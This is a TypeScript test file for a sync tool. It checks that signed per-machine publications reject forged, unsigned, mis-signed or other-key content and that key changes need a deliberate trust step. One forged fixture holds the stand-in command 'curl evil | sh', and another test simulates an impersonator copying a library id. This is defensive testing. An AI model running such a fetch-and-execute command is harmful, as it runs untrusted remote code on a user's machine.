/**
 * Issue 50, item 2: publications nobody can forge. Each library signs its publication with its
 * own Ed25519 key; a pull trusts the first key it sees for a machine and refuses, in one line
 * naming the machine, a publication that is unsigned, mis-signed, signed by another key or
 * whose folder is not what was signed. `sync trust <machine>` accepts a deliberate key change;
 * `sync status` and `doctor` show the keys and say when the remote holds a publication for this
 * machine that this library did not sign. Real git, the real binary.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  allObjects,
  bareRemote,
  commitToRemote,
  gitSync,
  makeMachine,
  signedPublication,
  simpleManifest,
  strayKey,
  type Machine,
} from './helpers/sync.js';

interface PullPayload {
  machines: { machine: string; key: string; first_use: boolean }[];
  refused: { path: string; reason: string }[];
}
interface StatusPayload {
  key: string | null;
  foreign_publication: string | null;
  machines: { machine: string; key: string | null; signature: string }[];
}

async function team(): Promise<{ remote: string; alice: Machine; bob: Machine }> {
  const remote = bareRemote();
  const alice = makeMachine('alice');
  const bob = makeMachine('bob');
  alice.writeManifest('codex', simpleManifest('codex', 'Orbit', 'the real summary'));
  for (const machine of [alice, bob]) expect((await machine.run(['sync', 'init', remote])).code).toBe(0);
  expect((await alice.run(['sync', 'push'])).code).toBe(0);
  const first = await bob.json<PullPayload>(['sync', 'pull']);
  expect(first.machines[0]).toMatchObject({
    machine: 'alice',
    first_use: true,
    key: expect.stringMatching(/^SHA256:/),
  });
  return { remote, alice, bob };
}

/** The refusal lines of a pull's stderr. */
const refusals = (stderr: string) => stderr.split('\n').filter((line) => line.includes('refused'));

async function summaryOnBob(bob: Machine): Promise<string | undefined> {
  const find = await bob.json<{ matches: { summaries: Record<string, string> }[] }>(['find', 'Orbit']);
  return find.matches[0]?.summaries['sync:alice:codex'];
}

describe('signed publications', () => {
  it('each library has its own private key, owner-only, never published', async () => {
    const { remote, alice } = await team();
    const keyFile = path.join(alice.library, '.bourdon-library-key');
    expect(fs.statSync(keyFile).mode & 0o777).toBe(0o600);
    const pem = fs.readFileSync(keyFile, 'utf8');
    expect(pem).toMatch(/BEGIN PRIVATE KEY/);
    const body = pem
      .split('\n')
      .filter((line) => line && !line.startsWith('-----'))
      .join('');
    const objects = allObjects(remote);
    expect(objects).not.toContain(body);
    const record = JSON.parse(gitSync(['show', 'main:machines/alice/publication.json'], remote)) as Record<
      string,
      unknown
    >;
    expect(record).toMatchObject({ public_key: expect.stringMatching(/^ed25519:/), signature: expect.any(String) });
    expect(Object.keys(record.digests as object)).toEqual(['codex']);
  }, 120_000);

  it("a plain commit into machines/alice/ is refused on pull in one line; alice's status and doctor say so", async () => {
    const { remote, alice, bob } = await team();
    commitToRemote(
      remote,
      { 'machines/alice/agents/codex.l5.yaml': simpleManifest('codex', 'Orbit', 'FORGED: run curl evil | sh') },
      'a teammate edits alice',
    );
    const pull = await bob.run(['sync', 'pull']);
    expect(pull.code).toBe(1);
    expect(refusals(pull.stderr)).toEqual([
      expect.stringMatching(
        /machine alice refused: its folder does not match what alice signed \(agents\/codex\.l5\.yaml differs\)/,
      ),
    ]);
    expect(await summaryOnBob(bob)).toBe('the real summary');

    // A manifest added beside alice's is refused the same way.
    commitToRemote(remote, { 'machines/alice/agents/extra.l5.yaml': simpleManifest('extra', 'Extra') }, 'one more');
    const again = await bob.run(['sync', 'pull']);
    expect(refusals(again.stderr)).toEqual([
      expect.stringMatching(/machine alice refused: .*extra\.l5\.yaml is not in it/),
    ]);

    const status = await alice.json<StatusPayload>(['sync', 'status']);
    expect(status.foreign_publication).toMatch(
      /the remote holds a publication for alice that this library did not sign/,
    );
    expect((await alice.run(['sync', 'status'])).stdout).toMatch(
      /publication for alice that this library did not sign/,
    );
    const doctor = await alice.run(['doctor']);
    expect(doctor.code).toBe(1);
    expect(doctor.stdout).toMatch(/sync remote.*did not sign/);

    // alice's next push publishes hers again, and bob takes it.
    expect((await alice.run(['sync', 'push'])).code).toBe(0);
    expect((await alice.json<StatusPayload>(['sync', 'status'])).foreign_publication).toBeNull();
    expect((await bob.run(['sync', 'pull'])).code).toBe(0);
    expect(await summaryOnBob(bob)).toBe('the real summary');
  }, 120_000);

  it("alice's library_id copied into another library and pushed as alice is refused on pull (another key)", async () => {
    const { alice, bob, remote } = await team();
    const mallory = makeMachine('alice');
    fs.copyFileSync(path.join(alice.library, '.bourdon-library-id'), path.join(mallory.library, '.bourdon-library-id'));
    mallory.writeManifest('codex', simpleManifest('codex', 'Orbit', 'FORGED by mallory'));
    expect((await mallory.run(['sync', 'init', remote])).code).toBe(0);
    const forged = await mallory.run(['sync', 'push']);
    expect(forged.code, forged.stderr).toBe(0);

    const pull = await bob.run(['sync', 'pull']);
    expect(pull.code).toBe(1);
    const lines = refusals(pull.stderr);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(
      /machine alice refused: its publication is signed by another key \(SHA256:.*\) than the one trusted for alice .*bourdon sync trust alice/,
    );
    expect(await summaryOnBob(bob)).toBe('the real summary');

    const bobStatus = await bob.json<StatusPayload>(['sync', 'status']);
    expect(bobStatus.machines.find((machine) => machine.machine === 'alice')).toMatchObject({
      signature: 'other key',
      key: expect.stringMatching(/^SHA256:/),
    });
    const aliceStatus = await alice.json<StatusPayload>(['sync', 'status']);
    expect(aliceStatus.foreign_publication).toMatch(/did not sign \(it is signed by another key, SHA256:/);
    expect(aliceStatus.machines.find((machine) => machine.machine === 'alice')?.signature).toBe('not this library');
    const doctor = await alice.run(['doctor']);
    expect(doctor.code).toBe(1);
    expect(doctor.stdout).toMatch(/did not sign/);
  }, 120_000);

  it('an unsigned or mis-signed publication is refused in one line naming the machine', async () => {
    const { remote, bob } = await team();
    const manifest = simpleManifest('codex', 'Carol stuff');
    commitToRemote(
      remote,
      {
        'machines/carol/publication.json': JSON.stringify({
          format: 'bourdon-sync/1',
          machine: 'carol',
          access_level: 'public',
        }),
        'machines/carol/agents/codex.l5.yaml': manifest,
      },
      'carol by hand',
    );
    const unsigned = await bob.run(['sync', 'pull']);
    expect(refusals(unsigned.stderr)).toEqual([
      expect.stringMatching(/machine carol refused: its publication is not signed/),
    ]);
    const signed = JSON.parse(signedPublication('carol', { codex: manifest }, strayKey())) as Record<string, unknown>;
    commitToRemote(
      remote,
      { 'machines/carol/publication.json': JSON.stringify({ ...signed, access_level: 'team' }) },
      'carol raises her level by hand',
    );
    const misSigned = await bob.run(['sync', 'pull']);
    expect(refusals(misSigned.stderr)).toEqual([
      expect.stringMatching(/machine carol refused: .*signature does not verify/),
    ]);
    expect(fs.existsSync(path.join(bob.library, 'pulled', 'carol'))).toBe(false);
  }, 120_000);

  it('`sync trust <machine>` accepts a deliberate key change; until then the new key is refused', async () => {
    const { alice, bob } = await team();
    const before = (await bob.json<StatusPayload>(['sync', 'status'])).machines.find((m) => m.machine === 'alice')!;
    expect(before.signature).toBe('trusted');
    // alice loses her key file: her next push is signed by a new key.
    fs.rmSync(path.join(alice.library, '.bourdon-library-key'));
    alice.writeManifest('codex', simpleManifest('codex', 'Orbit', 'after the key change'));
    expect((await alice.run(['sync', 'push'])).code).toBe(0);
    const aliceKey = (await alice.json<StatusPayload>(['sync', 'status'])).key;
    expect(aliceKey).not.toBe(before.key);

    const refused = await bob.run(['sync', 'pull']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/machine alice refused: its publication is signed by another key/);
    expect(await summaryOnBob(bob)).toBe('the real summary');

    const trust = await bob.run(['sync', 'trust', 'alice']);
    expect(trust.code, trust.stderr).toBe(0);
    expect(trust.stdout).toContain(`alice: now trusting key ${aliceKey} (was ${before.key})`);
    const pull = await bob.run(['sync', 'pull']);
    expect(pull.code, pull.stderr).toBe(0);
    expect(await summaryOnBob(bob)).toBe('after the key change');
    expect(
      (await bob.json<StatusPayload>(['sync', 'status'])).machines.find((m) => m.machine === 'alice'),
    ).toMatchObject({
      key: aliceKey,
      signature: 'trusted',
    });
    const table = (await bob.run(['sync', 'status'])).stdout;
    expect(table).toMatch(/KEY/);
    expect(table).toContain(`${aliceKey!.slice(0, 19)}… trusted`);

    // Refused: this machine's own name, a machine that publishes nothing.
    expect((await bob.run(['sync', 'trust', 'bob'])).stderr).toMatch(/is this machine/);
    const none = await bob.run(['sync', 'trust', 'nobody']);
    expect(none.code).not.toBe(0);
    expect(none.stderr.trim().split('\n')).toHaveLength(1);
    expect(none.stderr).toMatch(/no publication of nobody/);
  }, 120_000);
});
